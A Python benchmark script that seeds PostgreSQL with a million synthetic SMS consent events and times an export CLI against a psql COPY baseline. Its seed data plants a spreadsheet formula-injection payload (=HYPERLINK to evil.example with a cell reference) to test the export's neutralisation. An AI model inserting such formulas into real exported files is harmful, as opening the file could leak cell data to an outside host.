"""How fast ``sms-service export consent`` writes a million consent events, against psql.

    python bench/export_rate.py [--events 1000000] [--repeat 3] [--row-path]

Creates a private PostgreSQL database and seeds ``--events`` consent events with one
``INSERT … SELECT generate_series`` (opt-ins and signatures with their disclosure text,
HELPs, STOPs, possible opt-outs with a review date, a campaign keyword on signatures, and
one body in a thousand a planted formula such as ``=HYPERLINK(…) stop``), then, ``--repeat``
times and in alternating order:

* the service: ``python -m sms_service.cli export consent -o /dev/null`` in its own
  process, wall time from spawn to exit, peak RSS of that process (``wait4``);
* the baseline: ``psql -c "\\copy (SELECT …) TO '/dev/null' WITH (FORMAT csv)"`` running
  the very query the service's COPY path runs (same columns, order, formatting and
  spreadsheet neutralisation), timed the same way.

``--row-path`` also times the Python row stream (what SQLite uses, and what PostgreSQL used
before COPY) for comparison. Prints each timing, the medians, rows/s and the ratio; exits 1
when the service is under 250,000 rows/s, over 2x the baseline, or over 150 MB peak RSS.
The database is dropped afterwards, also on Ctrl-C.
"""

from __future__ import annotations

import argparse
import os
import shutil
import statistics
import subprocess
import sys
import tempfile
import time

from sqlalchemy import text
from sqlalchemy.dialects import postgresql
from sqlalchemy.engine import make_url

from sms_service.db import make_engine
from sms_service.services.exports import ExportFilter, consent_export, copy_query

try:  # bench/ is not a package: run as a script, or imported by path
    from _common import exit_on_sigterm, private_database
except ImportError:  # pragma: no cover
    from bench._common import exit_on_sigterm, private_database

TARGET_ROWS_PER_SECOND = 250_000
TARGET_RATIO = 2.0
TARGET_RSS_MB = 150

DISCLOSURE = (
    "Rights Alerts: Up to 4 msgs/mo. Msg & data rates may apply. Reply HELP for help, "
    "STOP to cancel. Terms: https://rights.example/sms-terms"
)
SEED = text(
    """
    INSERT INTO consent_events (occurred_at, phone, event, keyword, message_body,
        message_sid, source, program, disclosure, campaign_id, review_by, note)
    SELECT timestamptz '2026-01-01 00:00:00+00' + g * interval '31.7 milliseconds'
               + (g % 7) * interval '1 microsecond',
           '+1' || (2022000000 + g % 400000)::text,
           (ARRAY['opt_in', 'signature', 'opt_in', 'help', 'opt_out', 'possible_opt_out',
                  'opt_in', 'signature', 'opt_out', 'opt_in'])[1 + g % 10],
           (ARRAY['JOIN', 'HK64', 'JOIN', 'HELP', 'STOP', NULL,
                  'JOIN', 'SIGN', 'STOP', 'JOIN'])[1 + g % 10],
           CASE WHEN g % 1000 = 0 THEN '=HYPERLINK("https://evil.example/?"&A1,"x") stop'
                WHEN g % 10 = 5 THEN 'We''ve got to STOP this bill, see you at 6, ok?'
                ELSE (ARRAY['Join', 'sign', 'join', 'help', 'STOP', '', 'JOIN', 'Sign',
                            'stop', 'join'])[1 + g % 10] END,
           'SM' || md5(g::text),
           'sms',
           'Rights Alerts',
           CASE WHEN g % 10 IN (0, 1, 2, 6, 7, 9) THEN :disclosure END,
           CASE WHEN g % 10 IN (1, 7) THEN :campaign_id END,
           CASE WHEN g % 10 = 5 THEN date '2026-01-15' + (g % 30)::int END,
           NULL
    FROM generate_series(1, CAST(:events AS bigint)) AS g
    """
)


def seed(database_url: str, events: int) -> None:
    """One campaign and ``events`` consent events, then VACUUM ANALYZE."""
    engine = make_engine(database_url)
    with engine.begin() as conn:
        campaign_id = conn.execute(
            text(
                "INSERT INTO campaigns (keyword, title, petition_text, active, created_at) "
                "VALUES ('HK64', 'Release the 64', '', true, now()) RETURNING id"
            )
        ).scalar_one()
        conn.execute(SEED, {"events": events, "campaign_id": campaign_id, "disclosure": DISCLOSURE})
    with engine.connect().execution_options(isolation_level="AUTOCOMMIT") as conn:
        conn.execute(text("VACUUM ANALYZE consent_events"))
        conn.execute(text("CHECKPOINT"))
    engine.dispose()


def baseline_sql() -> str:
    """The service's COPY query with its parameters written in, on one line for psql."""
    query = copy_query(consent_export(ExportFilter()))
    compiled = query.compile(
        dialect=postgresql.dialect(),
        compile_kwargs={"literal_binds": True, "render_postcompile": True},
    )
    return " ".join(str(compiled).split())


def peak_rss_mb(pid: int) -> float | None:
    """The process's peak resident set so far (VmHWM), in MB; None once it is gone."""
    try:
        with open(f"/proc/{pid}/status") as status:
            for line in status:
                if line.startswith("VmHWM:"):
                    return int(line.split()[1]) / 1024
    except OSError:
        return None
    return None


def run(command: list[str], env: dict[str, str]) -> tuple[float, float, str]:
    """Run ``command``: (wall seconds, peak RSS in MB of that process, its output).

    The peak is VmHWM read from /proc every 10 ms while it runs: ``ru_maxrss`` would count
    this (large) harness process too, whose pages the child holds between fork and exec.
    """
    with tempfile.TemporaryFile() as output:
        started = time.perf_counter()
        process = subprocess.Popen(
            command, env=env, stdout=output, stderr=subprocess.STDOUT, start_new_session=True
        )
        peak = 0.0
        while process.poll() is None:
            peak = max(peak, peak_rss_mb(process.pid) or 0.0)
            time.sleep(0.01)
        elapsed = time.perf_counter() - started
        output.seek(0)
        text_out = output.read().decode(errors="replace")
    if process.returncode:
        raise SystemExit(f"{command[0]} failed ({process.returncode}): {text_out[-500:]}")
    return elapsed, peak, text_out


def main(argv: list[str] | None = None) -> int:
    """Seed, time service and baseline alternately, print, judge."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--events", type=int, default=1_000_000)
    parser.add_argument("--repeat", type=int, default=3)
    parser.add_argument("--row-path", action="store_true", help="also time the Python rows")
    args = parser.parse_args(argv)
    exit_on_sigterm()
    psql = shutil.which("psql")
    if not psql:
        raise SystemExit("psql is needed for the baseline (apt-get install postgresql-client)")

    with private_database("bench_export") as url:
        print(f"seeding {args.events:,} consent events …", flush=True)
        started = time.perf_counter()
        seed(url, args.events)
        print(f"  seeded in {time.perf_counter() - started:.1f} s")
        env = {**os.environ, "DATABASE_URL": url}
        pg = make_url(url)
        baseline = [
            psql, "-X", "-q", "-h", pg.host or "127.0.0.1", "-p", str(pg.port or 5432),
            "-U", pg.username or "postgres", "-d", pg.database,
            "-c", f"\\copy ({baseline_sql()}) TO '/dev/null' WITH (FORMAT csv)",
        ]  # fmt: skip
        service = [sys.executable, "-m", "sms_service.cli", "export", "consent", "-o", "/dev/null"]
        row_path = [sys.executable, "-c", ROW_PATH_SCRIPT]
        runs: dict[str, list[tuple[float, float]]] = {"service": [], "baseline": [], "rows": []}
        for i in range(args.repeat):
            order = ["service", "baseline"] if i % 2 == 0 else ["baseline", "service"]
            if args.row_path and i == 0:
                order.append("rows")
            for name in order:
                command = {"service": service, "baseline": baseline, "rows": row_path}[name]
                seconds, rss, output = run(command, env)
                if name != "baseline" and f"{args.events} rows" not in output:
                    raise SystemExit(f"{name} did not report {args.events} rows: {output!r}")
                runs[name].append((seconds, rss))
                rate = args.events / seconds
                print(f"  {name:8} {seconds:6.2f} s  {rate:10,.0f} rows/s  peak RSS {rss:5.0f} MB")

    service_s = statistics.median(s for s, _ in runs["service"])
    baseline_s = statistics.median(s for s, _ in runs["baseline"])
    peak = max(r for _, r in runs["service"])
    rate = args.events / service_s
    ratio = service_s / baseline_s
    print(f"\nservice  median {service_s:.2f} s = {rate:,.0f} rows/s, peak RSS {peak:.0f} MB")
    print(f"baseline median {baseline_s:.2f} s = {args.events / baseline_s:,.0f} rows/s (psql)")
    if runs["rows"]:
        rows_s = runs["rows"][0][0]
        print(f"row path        {rows_s:.2f} s = {args.events / rows_s:,.0f} rows/s")
    print(f"ratio service/baseline {ratio:.2f} (target ≤ {TARGET_RATIO})")
    print(f"load average {' '.join(f'{v:.2f}' for v in os.getloadavg())}")
    ok = rate >= TARGET_ROWS_PER_SECOND and ratio <= TARGET_RATIO and peak <= TARGET_RSS_MB
    print("targets met" if ok else "TARGET MISSED")
    return 0 if ok else 1


# The Python row stream on PostgreSQL, in a process of its own like the CLI.
ROW_PATH_SCRIPT = """
import os
from sms_service.db import make_engine
from sms_service.services.exports import ExportFilter, consent_export, write_export
engine = make_engine(os.environ["DATABASE_URL"])
with open("/dev/null", "wb") as out:
    count = write_export(engine, out, consent_export(ExportFilter()), use_copy=False)
print(f"{count} rows")
"""

if __name__ == "__main__":
    sys.exit(main())
